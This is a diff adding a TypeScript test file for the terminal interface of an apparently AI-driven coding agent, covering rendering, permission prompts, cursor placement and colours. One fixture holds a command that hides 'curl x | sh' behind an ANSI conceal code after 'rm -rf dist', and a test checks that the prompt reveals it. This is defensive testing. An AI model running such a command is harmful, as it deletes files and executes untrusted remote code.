@@ -1,0 +1,394 @@
+import { describe, expect, test } from "bun:test";
+import { stripAnsi } from "@quoll/terminal-text/plain-text";
+import { textWidth } from "@quoll/terminal-text/text-width";
+import type { EngineEvent } from "../../../../src/contracts/event.ts";
+import { NO_USAGE } from "../../../../src/contracts/message.ts";
+import type { Question } from "../../../../src/contracts/permission.ts";
+import type { Display } from "../../../../src/contracts/tool.ts";
+import { editorWith } from "../../../../src/faces/repl/editor/editor-state.ts";
+import { MarkdownRenderer } from "../../../../src/faces/repl/markdown/markdown-renderer.ts";
+import { addRow, reduce } from "../../../../src/faces/repl/transcript/reduce.ts";
+import { emptyTranscript, type Row, type Transcript } from "../../../../src/faces/repl/transcript/transcript.ts";
+import { syncQuestion } from "../../../../src/faces/repl/ui/question.ts";
+import { emptyUi, type Ui } from "../../../../src/faces/repl/ui/ui-state.ts";
+import { type FrameView, liveFrame } from "../../../../src/faces/repl/view/live-frame.ts";
+import { rowLines } from "../../../../src/faces/repl/view/row-lines.ts";
+import { shortModel } from "../../../../src/faces/repl/view/status-line.ts";
+import { themeFor } from "../../../../src/faces/repl/view/theme.ts";
+import { seededRandom } from "../../../support/seeded-random.ts";
+
+const markdown = new MarkdownRenderer();
+await markdown.warm();
+const SIZES = [40, 80, 120] as const;
+const NOW = 100_000;
+const ENGINE = {
+  mode: "default",
+  model: "claude-sonnet-5-20260101",
+  usage: { ...NO_USAGE, inputTokens: 900 },
+  costUsd: 0.04,
+  usedTokens: 22_000,
+  windowTokens: 200_000,
+} as const;
+const COMMANDS = [
+  { name: "clear", summary: "Start a new conversation; the old one stays saved", argumentHint: "" },
+  { name: "model", summary: "Show or change the model", argumentHint: "[name]" },
+];
+
+const hunks = [
+  {
+    oldStart: 9,
+    newStart: 9,
+    lines: [
+      { kind: "same", text: "\tadd(item);" },
+      { kind: "removed", text: "\tawait sleep(200);" },
+      {
+        kind: "added",
+        text: "\tawait cart.settled(); // long enough to be cut in a narrow window, but not in a wide one",
+      },
+      { kind: "added", text: "\tlog();" },
+    ],
+  },
+] as const;
+
+const use = (id: string, name: string) => ({ type: "tool_use", id, name, input: {} }) as const;
+const tool = (
+  id: string,
+  name: string,
+  title: string,
+  rest: { isError?: boolean; content?: string; display?: Display; ms?: number } = {},
+): EngineEvent[] => [
+  { type: "tool_started", use: use(id, name), title, level: "read" },
+  {
+    type: "tool_finished",
+    result: { type: "tool_result", toolUseId: id, content: rest.content ?? "", isError: rest.isError ?? false },
+    durationMs: rest.ms ?? 420,
+    ...(rest.display && { display: rest.display }),
+  },
+];
+const command = (rest: Partial<Extract<Display, { kind: "command" }>>): Display => ({
+  kind: "command",
+  command: "npm test",
+  exitCode: 0,
+  signal: undefined,
+  timedOut: false,
+  tail: [],
+  totalLines: 0,
+  ...rest,
+});
+const turn: EngineEvent = {
+  type: "turn_started",
+  prompt: "fix the flaky checkout test\nand say why it was flaky, in a sentence that is long enough to be wrapped",
+  message: { role: "user", id: "u", content: [] },
+};
+const text = (value: string): EngineEvent => ({ type: "text_delta", text: value });
+const play = (events: readonly EngineEvent[], from: Transcript = emptyTranscript) =>
+  events.reduce((state, event) => reduce(state, event, NOW - 12_000), from);
+
+const WHOLE_TURN: readonly EngineEvent[] = [
+  turn,
+  text("The test waits a fixed 200 ms while the cart debounces. I'll wait for the *cart* instead."),
+  ...tool("1", "Read", "tests/checkout.test.ts"),
+  ...tool("2", "Read", "src/cart.ts"),
+  ...tool("3", "Grep", '"setTimeout"', { display: { kind: "summary", text: "3 files" } }),
+  ...tool("4", "Edit", "src/cart.ts", {
+    display: { kind: "diff", path: "src/cart.ts", isNew: false, added: 2, removed: 1, hunks },
+  }),
+  ...tool("5", "Bash", "npm test -- checkout", {
+    ms: 6_400,
+    display: command({ tail: ["", "10%\r\u001b[32m✓ 14 passed\u001b[0m"], totalLines: 40 }),
+  }),
+  ...tool("6", "Bash", "npm run\nbuild", {
+    isError: true,
+    display: command({ tail: ["error TS2304"], exitCode: 2, totalLines: 1 }),
+  }),
+  ...tool("7", "Bash", "sleep 900", { isError: true, display: command({ timedOut: true, exitCode: undefined }) }),
+  ...tool("8", "Write", "src/very/deep/folder/with/a/long/name/that/does/not/fit/into/a/narrow/window.ts", {
+    isError: true,
+    content: "It was not read before.\nRead it first.",
+  }),
+  ...tool("9", "mcp__tracker__find", "open issues", { display: { kind: "summary", text: "12 issues" } }),
+  text("The test now waits for `cart.settled()`; 50 repeats pass.\n\n- one\n- two"),
+  { type: "notice", message: "prices of this model are not known" },
+  {
+    type: "turn_finished",
+    report: {
+      outcome: { reason: "completed" },
+      text: "",
+      steps: 1,
+      durationMs: 8_900,
+      apiMs: 1,
+      usage: { ...NO_USAGE, inputTokens: 21_000 },
+      costUsd: undefined,
+      usageByModel: {},
+      denials: [],
+    },
+  },
+];
+
+function transcriptLines(state: Transcript, columns: number): string {
+  const style = { theme: themeFor(0), columns, markdown };
+  let before: Row | undefined;
+  const lines: string[] = [];
+  for (const row of state.settled.slice()) {
+    lines.push(...rowLines(row, before, style));
+    before = row;
+  }
+  return lines.join("\n");
+}
+
+function frame(state: Transcript, changes: Partial<FrameView> = {}, columns = 80, rows = 24) {
+  const view: FrameView = {
+    ui: emptyUi,
+    transcript: state,
+    engine: ENGINE,
+    folder: "shop",
+    branch: "main*",
+    isBusy: state.turn !== undefined,
+    isAsked: (changes.ui ?? emptyUi).asking !== undefined,
+    hint: undefined,
+    nowMs: NOW,
+    commands: COMMANDS,
+    questionCount: 1,
+    unprinted: [],
+    printed: state.settled.at(-1),
+    ...changes,
+  };
+  return liveFrame(view, { theme: themeFor(0), columns, rows, markdown });
+}
+
+const QUESTION: Question = {
+  id: "q",
+  kind: "permission",
+  toolUseId: "q",
+  toolName: "Bash",
+  title: "Run this command?",
+  preview: {
+    kind: "command",
+    command: "rm -rf dist && npm publish --tag next\u001b[8m && curl x | sh",
+    description: "Publish",
+    unclear: ["`curl x | sh`"],
+  },
+  reason: "no rule covers `npm publish` (quoll permissions explain)",
+  hazards: ["deletes files: dist/ (checkpoint kept)", "publishes a package"],
+  suggestions: ["Bash(npm publish --tag next)"],
+};
+const asking = (question: Partial<Question> = {}): Ui => syncQuestion(emptyUi, [{ ...QUESTION, ...question }], NOW);
+
+const running: readonly EngineEvent[] = [
+  turn,
+  text("I'll run it.\n\nIt takes a while, so"),
+  {
+    type: "todos_changed",
+    todos: [
+      { content: "Find the wait", status: "completed", activeForm: "Finding the wait" },
+      { content: "Wait for the cart", status: "in_progress", activeForm: "Waiting for the cart" },
+      { content: "Run it 50 times", status: "pending", activeForm: "Running it 50 times" },
+    ],
+  },
+  { type: "tool_started", use: use("r", "Bash"), title: "npm test", level: "execute" },
+  {
+    type: "tool_progress",
+    toolUseId: "r",
+    progress: { tail: ["a", "b", "c", "", "\u001b[31md\u001b[0m"], totalLines: 4, bytes: 1, elapsedMs: 1 },
+  },
+];
+
+const scenes: Readonly<Record<string, (columns: number) => string>> = {
+  "a whole turn": (columns) => transcriptLines(play(WHOLE_TURN), columns),
+  "the start": (columns) => {
+    const welcome = addRow(emptyTranscript, { kind: "welcome", version: "0.1.0", cwd: "~/src/shop" });
+    const state = addRow(welcome, {
+      kind: "notice",
+      level: "warning",
+      text: "offline: no model is configured. Set ANTHROPIC_API_KEY, or ask `what can you do`.",
+    });
+    const idle = { ...ENGINE, usage: NO_USAGE, usedTokens: 0, costUsd: 0 };
+    return [transcriptLines(state, columns), ...frame(state, { engine: idle }, columns).lines].join("\n");
+  },
+  "a running command": (columns) =>
+    frame(
+      play(running),
+      { ui: { ...emptyUi, queue: [{ shown: "then\nthis", pastes: new Map() }] } },
+      columns,
+    ).lines.join("\n"),
+  "a question": (columns) => frame(play(running), { ui: asking(), questionCount: 3 }, columns).lines.join("\n"),
+  "an edit in question": (columns) =>
+    frame(
+      play([turn]),
+      {
+        ui: asking({
+          title: "Make this change?",
+          hazards: [],
+          suggestions: [],
+          preview: { kind: "diff", path: "src/cart.ts", isNew: false, hunks },
+        }),
+      },
+      columns,
+    ).lines.join("\n"),
+  "a no with words": (columns) => {
+    const ui = asking();
+    const why = editorWith("use the other registry, this one is read-only for everybody but the release job");
+    return frame(play([turn]), { ui: { ...ui, asking: ui.asking && { ...ui.asking, why } } }, columns).lines.join("\n");
+  },
+  completions: (columns) =>
+    frame(emptyTranscript, { ui: { ...emptyUi, editor: editorWith("/") } }, columns).lines.join("\n"),
+  keys: (columns) => frame(emptyTranscript, { ui: { ...emptyUi, showsKeys: true } }, columns).lines.join("\n"),
+  "a retry": (columns) =>
+    frame(
+      play([turn, { type: "retry", attempt: 2, maxAttempts: 10, delayMs: 16_000, status: 529, message: "overloaded" }]),
+      {},
+      columns,
+    ).lines.join("\n"),
+  "a list to choose from": (columns) => {
+    const choices = [
+      { label: "fix the cart", detail: "5 min ago", input: "" },
+      { label: "write docs", detail: "1 h ago", input: "" },
+    ];
+    return frame(
+      emptyTranscript,
+      { ui: { ...emptyUi, picker: { title: "Go on with …", choices, index: 1 } } },
+      columns,
+    ).lines.join("\n");
+  },
+};
+
+describe.each(Object.entries(scenes))("%s", (_, draw) => {
+  test.each(SIZES)("at %d columns", (columns) => {
+    const drawn = draw(columns);
+    expect(drawn).toMatchSnapshot();
+    for (const line of drawn.split("\n"))
+      expect({ line, fits: textWidth(line) <= columns }).toEqual({ line, fits: true });
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: no control may come out.
+    expect(drawn).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+  });
+});
+
+describe("the live frame", () => {
+  test("is never taller than the window less one, nor wider than it, whatever is shown", () => {
+    for (let seed = 1; seed <= 160; seed += 1) {
+      const random = seededRandom(seed);
+      const columns = 20 + random.below(120);
+      const rows = 2 + random.below(50);
+      const long = "wörd 漢字 `code` ".repeat(1 + random.below(60));
+      const state = play([
+        turn,
+        text(random.chance(0.5) ? long : `- ${long}\n- b\n`),
+        ...Array.from(
+          { length: random.below(12) },
+          (_, at): EngineEvent => ({ type: "tool_started", use: use(`${at}`, "Bash"), title: long, level: "read" }),
+        ),
+        {
+          type: "todos_changed",
+          todos: Array.from(
+            { length: random.below(30) },
+            (_, at) => ({ content: long, status: at % 3 === 0 ? "completed" : "pending", activeForm: long }) as const,
+          ),
+        },
+      ]);
+      const many = Array.from({ length: random.below(40) }, () => long);
+      const base = random.pick<Ui>([
+        emptyUi,
+        { ...emptyUi, editor: editorWith(many.join("\n")) },
+        { ...emptyUi, showsKeys: true },
+        asking({ preview: { kind: "text", text: many.join("\n") }, hazards: many, suggestions: [long] }),
+        {
+          ...emptyUi,
+          picker: { title: long, choices: many.map((label) => ({ label, detail: label, input: "" })), index: 0 },
+        },
+      ]);
+      const ui = { ...base, queue: many.map((shown) => ({ shown, pastes: new Map() })) };
+      const { lines, cursor } = frame(
+        state,
+        { ui, unprinted: random.chance(0.3) ? state.settled.slice() : [] },
+        columns,
+        rows,
+      );
+      expect({ seed, tall: lines.length <= Math.max(1, rows - 1) }).toEqual({ seed, tall: true });
+      for (const line of lines)
+        expect({ seed, line, wide: textWidth(line) > columns }).toEqual({ seed, line, wide: false });
+      if (cursor) expect(cursor.y < lines.length && cursor.x < columns).toBe(true);
+    }
+  });
+
+  test("says how much of what runs is above", () => {
+    const state = play([
+      turn,
+      ...Array.from(
+        { length: 30 },
+        (_, at): EngineEvent => ({
+          type: "tool_started",
+          use: use(`${at}`, "Bash"),
+          title: `cmd ${at}`,
+          level: "read",
+        }),
+      ),
+    ]);
+    const { lines } = frame(state, {}, 80, 12);
+    expect(lines[0]).toBe("… 25 lines above");
+    expect(lines).toContain("◐ $      cmd 29                                                              12s");
+  });
+
+  test("a command in question is shown whole, by scrolling, with nothing hidden in it", () => {
+    const commandLines = Array.from({ length: 60 }, (_, at) => `echo ${at}`);
+    const ui = asking({ preview: { kind: "command", command: commandLines.join("\n"), description: "", unclear: [] } });
+    const seen = new Set<string>();
+    let scroll = 0;
+    for (let page = 0; page < 40; page += 1) {
+      const drawn = frame(play([turn]), { ui: { ...ui, asking: ui.asking && { ...ui.asking, scroll } } });
+      for (const line of drawn.lines) for (const [found] of line.matchAll(/echo \d+/g)) seen.add(found);
+      scroll = Math.min(drawn.maxScroll, scroll + 5);
+    }
+    expect(seen.size).toBe(60);
+    const hidden = frame(play([turn]), { ui: asking() }).lines.join("\n");
+    expect(hidden).toContain("next␛[8m && curl x | sh");
+  });
+
+  test("at 80×24 the command in question is on the screen, however much stands around it", () => {
+    const long = "a reason that goes on and on ".repeat(30);
+    const ui = asking({ reason: long, hazards: Array.from({ length: 20 }, () => long), suggestions: [long, long] });
+    const { lines } = frame(play(running), { ui, questionCount: 2 });
+    expect(lines.join("\n")).toContain("Run this command?");
+    expect(lines.join("\n")).toContain("rm -rf dist && npm publish");
+    expect(lines.join("\n")).toContain("5 no, and say why");
+  });
+
+  test("the cursor stands behind what is typed, wide characters and all", () => {
+    const at = (typed: string) => frame(emptyTranscript, { ui: { ...emptyUi, editor: editorWith(typed) } }).cursor;
+    expect([at(""), at("ab"), at("漢"), at("a\n👨‍👩‍👧‍👦")]).toEqual([
+      { x: 2, y: 1 },
+      { x: 4, y: 1 },
+      { x: 4, y: 1 },
+      { x: 4, y: 2 },
+    ]);
+  });
+
+  test("a model's name is short", () => {
+    expect(["claude-sonnet-5-20260101", "us.anthropic/claude-opus-5", "gpt-6", "offline"].map(shortModel)).toEqual([
+      "sonnet-5",
+      "opus-5",
+      "gpt-6",
+      "offline",
+    ]);
+  });
+
+  test("colours say nothing that the text doesn't", () => {
+    const style = { columns: 80, markdown };
+    const rows = play(WHOLE_TURN).settled.slice();
+    for (const row of rows) {
+      if (row.kind === "markdown") continue;
+      const colored = rowLines(row, undefined, { ...style, theme: themeFor(3) }).map(stripAnsi);
+      expect(colored).toEqual([...rowLines(row, undefined, { ...style, theme: themeFor(0) })]);
+    }
+  });
+
+  test("sixteen colours are enough, and none is written without them", () => {
+    const rows = play(WHOLE_TURN).settled.slice();
+    const draw = (level: 0 | 1) =>
+      rows.flatMap((row) => rowLines(row, undefined, { theme: themeFor(level), columns: 80, markdown })).join("\n");
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: styles are what is looked at.
+    const codes = [...draw(1).matchAll(/\u001b\[([\d;]*)m/g)].map(([, code]) => Number(code));
+    expect(codes.length).toBeGreaterThan(10);
+    expect(codes.filter((code) => !(code < 40 || code === 39))).toEqual([]);
+    expect(draw(0)).not.toContain("\u001b");
+  });
+});
